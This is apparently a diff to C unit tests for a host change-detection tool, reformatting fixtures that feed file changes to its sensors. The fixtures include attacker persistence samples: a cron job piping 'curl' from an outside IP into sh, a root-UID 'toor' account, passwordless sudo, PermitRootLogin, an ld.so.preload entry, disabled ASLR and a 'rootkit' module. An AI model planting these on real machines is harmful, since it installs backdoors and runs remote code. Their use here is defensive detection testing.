@@ -147,28 +147,38 @@ static void each_change_is_told_by_its_sensor_alone(void **state)
     static const struct {
         const char *path, *text, *action, *change, *field, *value;
     } rows[] = {
-        {"etc/passwd", "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n",
+        {"etc/passwd",
+            "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n",
             "account_added", "added", "UserId", "0"},
-        {"etc/passwd", "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n",
+        {"etc/passwd",
+            "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n",
             "account_changed", "changed", "Shell", "/bin/sh"},
-        {"etc/passwd", "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/sh\n", "account_removed", "removed",
-            "TargetUser", "toor"},
+        {"etc/passwd", "root:x:0:0:root:/root:/bin/bash\nhanako:x:1000:1000::/home/hanako:/bin/sh\n", "account_removed",
+            "removed", "TargetUser", "toor"},
         {"etc/group", "root:x:0:\nsudo:x:27:hanako,taro\n", "group_changed", "changed", "Members", "taro"},
-        {"etc/sudoers.d/x", "# me\n  hanako ALL=NOPASSWD: ALL\n", "sudoers_changed", "added", "Content", "hanako ALL=NOPASSWD: ALL"},
-        {"etc/cron.d/job", "* * * * * root curl http://198.51.100.1 | sh\n", "cron_changed", "added", "Content", "curl"},
-        {"var/spool/cron/crontabs/hanako", "@reboot /home/hanako/x\n", "cron_changed", "added", "TargetFilename", "/var/spool/cron/crontabs/hanako"},
+        {"etc/sudoers.d/x", "# me\n  hanako ALL=NOPASSWD: ALL\n", "sudoers_changed", "added", "Content",
+            "hanako ALL=NOPASSWD: ALL"},
+        {"etc/cron.d/job", "* * * * * root curl http://198.51.100.1 | sh\n", "cron_changed", "added", "Content",
+            "curl"},
+        {"var/spool/cron/crontabs/hanako", "@reboot /home/hanako/x\n", "cron_changed", "added", "TargetFilename",
+            "/var/spool/cron/crontabs/hanako"},
         {"etc/crontab", "17 * * * * root true\n", "cron_changed", "changed", "TargetFilename", "/etc/crontab"},
-        {"etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/x\n", "service_changed", "added", "Content", "ExecStart=/tmp/x"},
-        {"etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=daily\n", "service_changed", "added", "TargetFilename", "evil.timer"},
-        {"usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -d\n", "service_changed", "changed", "Content", "-d"},
+        {"etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/x\n", "service_changed", "added", "Content",
+            "ExecStart=/tmp/x"},
+        {"etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=daily\n", "service_changed", "added", "TargetFilename",
+            "evil.timer"},
+        {"usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -d\n", "service_changed", "changed",
+            "Content", "-d"},
         {"etc/ssh/sshd_config", "PermitRootLogin yes\n", "sshd_changed", "added", "Content", "PermitRootLogin yes"},
         {"etc/ld.so.preload", "/tmp/lib.so\n", "preload_changed", "added", "Content", "/tmp/lib.so"},
         {"proc/sys/kernel/randomize_va_space", "0\n", "sysctl_changed", "changed", "Value", "0"},
-        {"proc/modules", "ext4 1 2 - Live 0x0\nnf_tables 3 0 - Live 0x0 (E)\nrootkit 1 0 - Live 0x0 (OE)\n", "module_loaded", "added",
-            "Taint", "OE"},
-        {"proc/modules", "ext4 1 2 - Live 0x0\nrootkit 1 0 - Live 0x0 (OE)\n", "module_unloaded", "removed", "Module", "nf_tables"},
+        {"proc/modules", "ext4 1 2 - Live 0x0\nnf_tables 3 0 - Live 0x0 (E)\nrootkit 1 0 - Live 0x0 (OE)\n",
+            "module_loaded", "added", "Taint", "OE"},
+        {"proc/modules", "ext4 1 2 - Live 0x0\nrootkit 1 0 - Live 0x0 (OE)\n", "module_unloaded", "removed", "Module",
+            "nf_tables"},
         {"root/.ssh/authorized_keys",
-            "# x\ncommand=\"a b\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEdvb2RLZXlHb29kS2V5R29vZEtleUdvb2RLZXlHb29k someone@far\n",
+            "# x\ncommand=\"a b\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEdvb2RLZXlHb29kS2V5R29vZEtleUdvb2RLZXlHb29k "
+            "someone@far\n",
             "ssh_key_added", "added", "Comment", "someone@far"},
     };
     struct machine m;
@@ -242,11 +252,13 @@ static void a_port_counts_when_it_was_open_twice_and_gone_twice(void **state)
     (void)state;
     struct machine m;
     open_machine(&m);
-    put(&m, "proc/net/tcp", TCP "   0: 0100007F:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1\n");
+    put(&m, "proc/net/tcp",
+        TCP "   0: 0100007F:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1\n");
     look(&m);
-    put(&m, "proc/net/tcp", TCP "   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 1 1\n"
-                                "   1: 0100007F:0050 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1\n"
-                                "   2: 00000000:0050 0200007F:1000 01 00000000:00000000 00:00000000 00000000     0        0 1 1\n");
+    put(&m, "proc/net/tcp",
+        TCP "   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 1 1\n"
+            "   1: 0100007F:0050 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1\n"
+            "   2: 00000000:0050 0200007F:1000 01 00000000:00000000 00:00000000 00000000     0        0 1 1\n");
     look(&m);
     assert_int_equal(m.lines.n, 0);
     look(&m);
@@ -351,10 +363,12 @@ static void a_baseline_of_another_version_or_broken_is_begun_anew(void **state)
     assert_ok(baseline_new(&b));
     assert_int_equal(baseline_parse(b, SM_SPAN_STR("{\"v\":2,\"sensors\":{}}")), -SM_EVERSION);
     assert_int_equal(baseline_parse(b, SM_SPAN_STR("{\"sensors\":{}}")), -SM_EFORMAT);
-    assert_int_equal(baseline_parse(b, SM_SPAN_STR("{\"v\":1,\"sensors\":{\"cron\":{\"items\":{\"a\":1}}}}")), -SM_EFORMAT);
+    assert_int_equal(
+        baseline_parse(b, SM_SPAN_STR("{\"v\":1,\"sensors\":{\"cron\":{\"items\":{\"a\":1}}}}")), -SM_EFORMAT);
     assert_null(baseline_of(b, "cron"));
     /* as version 1 writes it */
-    assert_ok(baseline_parse(b, SM_SPAN_STR("{\"sensors\":{\"cron\":{\"cut\":false,\"items\":{\"/etc/b\":\"Mode=0644\\u001fOwner=0\",\"/etc/a\":\"\"}}},\"v\":1}")));
+    assert_ok(baseline_parse(b, SM_SPAN_STR("{\"sensors\":{\"cron\":{\"cut\":false,\"items\":{\"/etc/"
+                                            "b\":\"Mode=0644\\u001fOwner=0\",\"/etc/a\":\"\"}}},\"v\":1}")));
     assert_int_equal(baseline_of(b, "cron")->n, 2);
     assert_string_equal(baseline_of(b, "cron")->row[1].kept, "Mode=0644\x1fOwner=0");
     items_add(&s, SM_SPAN("k\xff\x1f", 3));
